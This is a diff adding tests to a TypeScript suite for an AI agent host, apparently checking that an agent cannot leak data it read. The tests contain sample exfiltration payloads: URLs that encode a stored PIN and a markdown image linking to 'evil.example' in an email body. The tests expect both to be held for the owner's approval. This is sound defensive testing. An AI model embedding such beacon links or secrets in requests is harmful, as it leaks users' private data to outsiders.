@@ -1,4 +1,5 @@
 import { agent } from "@mh/core/model/principal.ts";
+import type { Http } from "@mh/core/ports/http.ts";
 import { defineOutside, type Skill } from "@mh/core/spine/skill.ts";
 import { expect, test } from "vitest";
 import { z } from "zod";
@@ -71,4 +72,41 @@ test("K8 no plain text of a question's values stands in the log", async () => {
   const records = [...inspect(made.root, made.environment).records()];
   expect(JSON.stringify(records)).not.toContain("eve@evil");
   expect(records.some(({ phase }) => phase === "ask")).toBe(true);
+});
+
+test("P18 what was read does not leave in an address: no link that the owner did not name is fetched without a question", async () => {
+  const asked: string[] = [];
+  const http: Http = {
+    request: async ({ url }) => {
+      asked.push(url);
+      return { status: 200, headers: { "content-type": "text/plain" }, body: new TextEncoder().encode("fine") };
+    },
+  };
+  await using made = await makeHost({ http, skills: [lettersSkill(letters)] });
+  const scope = { hosts: ["news.example"] };
+  for (const skill of ["letters.read", "memory.search"]) await made.own("grant.give", { principal: helper, skill });
+  await made.own("grant.give", { principal: helper, skill: "web.fetch", scope });
+  await made.own("memory.capture", { text: "My PIN is 4711" });
+  const task = inTask("t1", "Look at https://news.example/today and tell me what is new");
+  await made.act(helper, "letters.read", {}, task);
+  await made.act(helper, "memory.search", { q: "PIN" }, task);
+  const leaks = ["https://news.example/?pin=4711", "https://news.example/4711.png", "https://news.example/today#4711"];
+  for (const url of leaks) {
+    const outcome = await made.act(helper, "web.fetch", { url }, task);
+    expect([url, outcome.status, "layer" in outcome && outcome.layer]).toEqual([url, "parked", "provenance"]);
+  }
+  expect((await made.act(helper, "web.fetch", { url: "https://news.example/today" }, task)).status).toBe("done");
+  expect(asked).toEqual(["https://news.example/today"]);
+});
+
+test("P18 content that goes to whom the owner named carries no link and no account that a stranger brought", async () => {
+  await using made = await home();
+  const task = inTask("t1", "Answer my letters; write to sarah@example.org");
+  await made.act(helper, "letters.read", {}, task);
+  const letter = { to: ["sarah@example.org"], subject: "Hi", body: "See ![](https://evil.example/x.png?d=1)" };
+  await made.own("grant.give", { principal: helper, skill: "mail.send" });
+  const outcome = await made.act(helper, "mail.send", letter, task);
+  expect(outcome).toMatchObject({ status: "parked" });
+  const { command } = await made.own<{ command: { steered: object[] } }>("approval.show", { id: outcome.id });
+  expect(command.steered).toMatchObject([{ path: "body", reason: expect.stringContaining("evil.example/x.png") }]);
 });
